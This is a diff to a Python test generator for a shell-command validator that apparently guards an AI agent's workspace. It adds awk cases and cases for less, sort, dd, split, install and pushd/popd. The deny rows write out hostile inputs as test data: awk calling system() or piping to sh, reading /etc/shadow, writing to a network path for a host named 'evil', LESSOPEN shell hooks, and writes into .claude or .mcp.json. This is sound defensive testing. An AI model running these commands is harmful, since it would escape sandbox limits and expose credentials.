@@ -670,14 +670,14 @@ def validators():
               "awk '{print ($1 > 2)}' README.md", "awk '$1 || $2' README.md",
               "awk '{print}' x=1 README.md"]
     awk_bad = [("awk 'BEGIN{system(\"id\")}'", "args.awk-program"),
-               ("awk '{print > \"/tmp/x\"}' README.md", "args.awk-program"),
-               ("awk '{print >> \"out\"}' README.md", "args.awk-program"),
+               ("awk '{print > \"/tmp/x\"}' README.md", "paths.outside-write-set"),
+               ("awk '{print >> \"out/x\"}' README.md", None),
                ("awk '{print | \"sh\"}' README.md", "args.awk-program"),
                ("awk '{\"date\" | getline d}' README.md", "args.awk-program"),
-               ("awk '{getline < \"/etc/passwd\"}' README.md", "args.awk-program"),
+               ("awk '{getline < \"/etc/passwd\"}' README.md", "paths.outside-read-set"),
                ("awk -f prog.awk README.md", "args.awk-program"),
                ("awk \"$PROG\" README.md", "args.awk-program"),
-               ("awk '{printf \"%s\", $1 > \"x\"}' README.md", "args.awk-program"),
+               ("awk '{printf \"%s\", $1 > \".claude/x\"}' README.md", "paths.agent-config"),
                ("awk '{print}' ~/.ssh/id_rsa", None)]
     for c in awk_ok:
         rows.append((c, "allow", "mode=allowlist"))
@@ -1775,8 +1775,192 @@ def ssh():
                  "whitelist, local paths of scp and rsync held to the boundary.")
 
 
+AWK_OK = ["{print $1}", "$1 > 3", "{ if ($1 > 2) print }", "NR==1", "{s+=$1} END {print s}",
+          "{print ($1 > 2)}", "$1 || $2", "/foo|bar/", "/a|b/ {print $2}", "$0 ~ /x|y/",
+          "{print > \"out.txt\"}", "{print >> \"log.txt\"}", "{printf \"%s\\n\", $1 > \"sub/o\"}",
+          "{print $1 > \"/dev/stderr\"}", "{print \"a|b\"}", "{x = \"system\"; print x}",
+          "{print (length($0) > 3)}", "{ n = split($0, a, \"|\") }",
+          "{getline line < \"README.md\"; print line}", "{ while ((getline l < \"src/main.c\") > 0) n++ }",
+          "NR > 1 && $2 >= 5", "{ print; } # a | comment", "BEGIN { FS = \"|\" } { print $2 }",
+          "{ a[$1]++ } END { for (k in a) print k, a[k] > \"counts.txt\" }",
+          "{ print $1, $2 > \"out\" $3 }".replace(" > \"out\" $3", ""), "{ x = 4 / 2; y = x / 1 }",
+          "{ print 1 / 2 }", "{ gsub(/a|b/, \"c\"); print }", "{ print substr($0, 2) }",
+          "{ if (a > b) { print a } else { print b } }", "{ printf(\"%d\\n\", $1 > 2) }",
+          "function f(x) { return x > 1 } { print f($1) }", "{ print > \"CLAUDE.md\" }",
+          "{ getline; print }", "{ getline x; print x }", "$1 != \"|\""]
+AWK_BAD = [("BEGIN { system(\"id\") }", "args.awk-program"),
+           ("{ system($0) }", "args.awk-program"), ("{ x = system }", "args.awk-program"),
+           ("{ print | \"sh\" }", "args.awk-program"), ("{ print | cmd }", "args.awk-program"),
+           ("{ print |& \"sh\" }", "args.awk-program"), ("{ \"date\" | getline d }", "args.awk-program"),
+           ("{ cmd | getline }", "args.awk-program"), ("{ print > $1 }", "args.awk-program"),
+           ("{ print > f }", "args.awk-program"), ("{ print >> (\"a\" \"b\") }", "args.awk-program"),
+           ("{ printf \"%s\", $0 > FILENAME \".bak\" }", "args.awk-program"),
+           ("{ getline < $1 }", "args.awk-program"), ("{ getline x < f }", "args.awk-program"),
+           ("{ print > \"/tmp/x\" }", "paths.outside-write-set"),
+           ("{ print > \".claude/settings.json\" }", "paths.agent-config"),
+           ("{ print >> \".mcp.json\" }", "paths.agent-config"),
+           ("{ print > \".git/config\" }", "paths.git-dir"),
+           ("{ print > \"/dev/stdout\" > \"/tmp/y\" }", "args.awk-program"),
+           ("{ print length($0) > 3 }", "args.awk-program"),
+           ("{ print > \"outfile\" $3 }", "args.awk-program"),
+           ("{ print $1 > \"a\" \"b\" }", "args.awk-program"),
+           ("{ getline l < \"/etc/shadow\" }", "paths.outside-read-set"),
+           ("{ print > \"/inet/tcp/0/evil/80\" }", "paths.outside-write-set"),
+           ("{ print \"x\" > \"unterminated }", "args.awk-program"),
+           ("/unterminated", "args.awk-program"), ("@include \"x.awk\"", "args.awk-program"),
+           ("{ print; system(\"x\") }", "args.awk-program"),
+           ("{ if (x) print > \"/tmp/z\" }", "paths.outside-write-set")]
+
+
+def awk():
+    rows = []
+    for prog in AWK_OK:
+        q_ = "'" + prog.replace("'", "'\\''") + "'"
+        for m in ("allowlist", "denylist"):
+            rows.append((f"awk {q_} README.md", "allow", "mode=" + m))
+        rows.append((f"awk -F: {q_} README.md", "allow", "mode=allowlist"))
+        rows.append((f"awk -v n=1 {q_} README.md src/main.c", "allow", "mode=allowlist"))
+        rows.append((f"awk -e {q_} README.md", "allow", "mode=allowlist"))
+        rows.append((f"cat README.md | awk {q_}", "allow", "mode=allowlist"))
+    for prog, rule in AWK_BAD:
+        q_ = "'" + prog.replace("'", "'\\''") + "'"
+        for m in ("allowlist", "denylist"):
+            rows.append((f"awk {q_} README.md", dv(rule), "mode=" + m))
+        rows.append((f"awk -e {q_} README.md", dv(rule), "mode=allowlist"))
+        rows.append((f"awk --source={q_} README.md", dv(rule), "mode=allowlist"))
+        rows.append((f"echo x | awk {q_}", dv(rule), "mode=allowlist"))
+        rows.append((f"awk {q_} README.md", "allow", "mode=open"))
+    rows += [("cd .claude && awk '{print > \"x\"}' ../README.md", "deny:paths.agent-config", "mode=allowlist"),
+             ("cd sub && awk '{print > \"x\"}' ../README.md", "allow", "mode=allowlist"),
+             ("awk -f x.awk README.md", "deny:args.awk-program", "mode=allowlist"),
+             ("awk --file=x.awk README.md", "deny:args.awk-program", "mode=allowlist"),
+             ("awk -i inc README.md", "deny:args.awk-program", "mode=allowlist"),
+             ("awk \"$P\" README.md", "deny:args.awk-program", "mode=allowlist"),
+             ("env awk 1 README.md", "deny:structure.not-wrappable", "mode=allowlist"),
+             ("xargs awk 1", "deny:structure.not-wrappable", "mode=allowlist")]
+    return write("awk.tsv", rows,
+                 "awk: system(), pipes and files named by expressions refused;\n"
+                 "print > \"file\" and getline < \"file\" held to the boundary; '>'\n"
+                 "inside parentheses and '|' inside regular expressions are not\n"
+                 "redirections or pipes.")
+
+
+def misc():
+    rows = []
+    A, D = "mode=allowlist", "mode=denylist"
+    # the less family: LESSOPEN and friends protected, lesskey and log files refused
+    for tool in ["less", "zless", "bzless", "xzless"]:
+        rows.append((f"{tool} README.md", "allow", A))
+        rows.append((f"{tool} -N -S README.md", "allow", A))
+        rows.append((f"{tool} ~/.ssh/id_rsa", "deny", D))
+        for o in ["-k keys", "-kkeys", "-Nk keys", "--lesskey-file=keys", "--lesskey-src=k",
+                  "--lesskey-content=x", "--lesskey-f=keys", "--lesskey-s k", "-o log", "-olog",
+                  "-O log", "-So log", "--log-file=x", "--LOG-FILE=x", "--log-f=x", "+!sh",
+                  "'+|sh'"]:
+            rows.append((f"{tool} {o} README.md", "deny:args.less-option", A))
+            rows.append((f"{tool} {o} README.md", "deny:args.less-option", D))
+        for v in ["LESSOPEN", "LESSCLOSE", "LESS", "LESSKEY", "LESSKEYIN", "LESSKEY_CONTENT"]:
+            rows.append((f"{v}='|sh %s' {tool} README.md", "deny:structure.protected-env", A))
+            rows.append((f"env {v}=x {tool} README.md", "deny:structure.protected-env", D))
+    # sort
+    for c, v in [("sort -o out.txt README.md", "allow"), ("sort -o.claude/x README.md", "deny:paths.agent-config"),
+                 ("sort --output=.mcp.json README.md", "deny:paths.agent-config"),
+                 ("sort --out .claude/x README.md", "deny:paths.agent-config"),
+                 ("sort -uo /tmp/x README.md", "deny:paths.outside-write-set"),
+                 ("sort README.md -o /tmp/x", "deny:paths.outside-write-set"),
+                 ("sort -T /tmp README.md", "deny:paths.outside-write-set"),
+                 ("sort --temporary-directory=.claude README.md", "deny:paths.agent-config"),
+                 ("sort -T build README.md", "allow"),
+                 ("sort --compress-program=gzip README.md", "deny:args.sort-program"),
+                 ("sort --compress-prog gzip README.md", "deny:args.sort-program"),
+                 ("sort --co=gzip README.md", "deny:args.sort-program"),
+                 ("sort README.md --comp=sh", "deny:args.sort-program"),
+                 ("sort --files0-from=list README.md", "deny:args.sort-files0"),
+                 ("sort --files0=list", "deny:args.sort-files0"),
+                 ("sort --random-source=README.md README.md", "allow"),
+                 ("sort -R --random-source /etc/passwd README.md", "deny:paths.outside-read-set"),
+                 ("sort --random-source=/dev/urandom -R README.md", "allow"),
+                 ("sort -k2,2n -t, README.md", "allow"), ("sort --frob README.md", "deny:args.unknown-option")]:
+        rows.append((c, v, A))
+        rows.append((c, v, D))
+    # dd
+    for c, v in [("dd if=README.md of=out.img", "allow"), ("dd if=/dev/zero of=out.img bs=1M count=1", "allow"),
+                 ("dd if=/dev/urandom of=x count=1", "allow"), ("dd if=/etc/passwd of=x", "deny:paths.outside-read-set"),
+                 ("dd if=README.md of=/tmp/x", "deny:paths.outside-write-set"),
+                 ("dd if=README.md of=.claude/settings.json", "deny:paths.agent-config"),
+                 ("dd of=.mcp.json", "deny:paths.agent-config"), ("dd if=README.md", "allow"),
+                 ("dd of=/dev/null if=README.md", "allow")]:
+        rows.append((c, v, A))
+        rows.append((c, v, D))
+    # split and csplit
+    for c, v in [("split -l 10 README.md part-", "allow"), ("split -l 10 README.md .claude/p", "deny:paths.agent-config"),
+                 ("split README.md /tmp/p", "deny:paths.outside-write-set"),
+                 ("split --filter='sh -c x' README.md", "deny:args.runs-program"),
+                 ("split --fil=sh README.md", "deny:args.runs-program"),
+                 ("split -n2 --filter=cat README.md", "deny:args.runs-program"),
+                 ("split README.md", "allow"), ("cd .claude && split ../README.md", "deny:paths.agent-config"),
+                 ("csplit -f part README.md 2", "allow"), ("csplit -f .claude/p README.md 2", "deny:paths.agent-config"),
+                 ("csplit --prefix=/tmp/p README.md 2", "deny:paths.outside-write-set"),
+                 ("csplit README.md 2", "allow"), ("cd .claude && csplit ../README.md 2", "deny:paths.agent-config")]:
+        rows.append((c, v, A))
+        rows.append((c, v, D))
+    # writers with an output option or operand
+    for c, v in [("shuf -o out.txt README.md", "allow"), ("shuf -o .claude/x README.md", "deny:paths.agent-config"),
+                 ("shuf --output=/tmp/x README.md", "deny:paths.outside-write-set"),
+                 ("uniq README.md out.txt", "allow"), ("uniq README.md .mcp.json", "deny:paths.agent-config"),
+                 ("uniq -c README.md /tmp/x", "deny:paths.outside-write-set"),
+                 ("xxd README.md out.hex", "allow"), ("xxd -r out.hex .claude/x", "deny:paths.agent-config"),
+                 ("iconv -f utf-8 -t ascii -o out.txt README.md", "allow"),
+                 ("iconv -o .claude/x README.md", "deny:paths.agent-config"),
+                 ("iconv --output=/tmp/x README.md", "deny:paths.outside-write-set"),
+                 ("mktemp tmp.XXXX", "allow"), ("mktemp .claude/x.XXXX", "deny:paths.agent-config"),
+                 ("mktemp -p .claude x.XXXX", "deny:paths.agent-config"),
+                 ("yq '.a' x.yaml", "allow"), ("yq -i '.a = 1' x.yaml", "allow"),
+                 ("yq -i '.a = 1' .claude/settings.json", "deny:paths.agent-config"),
+                 ("yq --inplace '.a = 1' .mcp.json", "deny:paths.agent-config"),
+                 ("yq '.a' .claude/settings.json", "allow"),
+                 ("diff3 a b c", "allow"), ("diff3 --diff-program=sh a b c", "deny:args.runs-program"),
+                 ("diff3 --diff-p=sh a b c", "deny:args.runs-program"),
+                 ("sdiff a b", "allow"), ("sdiff -o out a b", "deny:args.runs-program"),
+                 ("sdiff --output=out a b", "deny:args.runs-program"),
+                 ("sdiff --diff-program sh a b", "deny:args.runs-program"),
+                 ("sdiff -so out a b", "deny:args.runs-program"),
+                 ("install -m 644 README.md build/", "allow"), ("install -s a build/", "deny:args.runs-program"),
+                 ("install -Dsm755 a build/a", "deny:args.runs-program"),
+                 ("install --strip a build/", "deny:args.runs-program"),
+                 ("install --strip-program=sh a build/", "deny:args.runs-program"),
+                 ("install --strip-p=sh a build/", "deny:args.runs-program"),
+                 ("install -m 644 README.md .claude/", "deny:paths.agent-config"),
+                 ("install -t .claude README.md", "deny:paths.agent-config")]:
+        rows.append((c, v, A))
+        rows.append((c, v, D))
+    # pushd and popd move the directory the checks resolve from
+    for c, v in [("pushd .claude && popd && touch x", "allow"),
+                 ("pushd .claude; popd; touch x", "allow"),
+                 ("pushd .claude && touch x", "deny:paths.agent-config"),
+                 ("pushd .claude && popd && pushd .codex && touch x", "deny:paths.agent-config"),
+                 ("pushd src && pushd ../.claude && popd && touch x", "allow"),
+                 ("pushd src && pushd ../.claude && popd && popd && touch .mcp.json", "deny:paths.agent-config"),
+                 ("pushd src && popd && touch ../x", "deny:paths.outside-write-set"),
+                 ("cd .claude && pushd ../src && popd && touch x", "deny:paths.agent-config"),
+                 ("(pushd src); popd; touch ../x", "deny:paths.outside-write-set"),
+                 ("(pushd .claude); touch x", "allow"),
+                 ("pushd .claude; (popd); touch x", "deny:paths.agent-config"),
+                 ("pushd .claude | cat; touch x", "allow"),
+                 ("echo $(pushd .claude); touch x", "allow"),
+                 ("bash -c 'pushd .claude'; touch x", "allow"),
+                 ("pushd .claude & popd; touch x", "allow"),
+                 ("pushd sub && popd +1 && touch x", "allow"),
+                 ("popd && touch x", "allow"), ("pushd src >/dev/null && popd >/dev/null && touch x", "allow")]:
+        rows.append((c, v, D))
+    return write("misc.tsv", rows,
+                 "The smaller validators: the less family, sort, dd, split/csplit,\n"
+                 "shuf, uniq, xxd, iconv, mktemp, yq -i, diff3/sdiff, install; and\n"
+                 "pushd/popd moving the directory paths are resolved from.")
+
+
 
 if __name__ == "__main__":
     n = whitelist() + denylist() + paths() + structure() + wrappers() + validators() + bypasses()
-    n += archives() + git() + ssh()
+    n += archives() + git() + ssh() + awk() + misc()
     print(f"{n} cases")
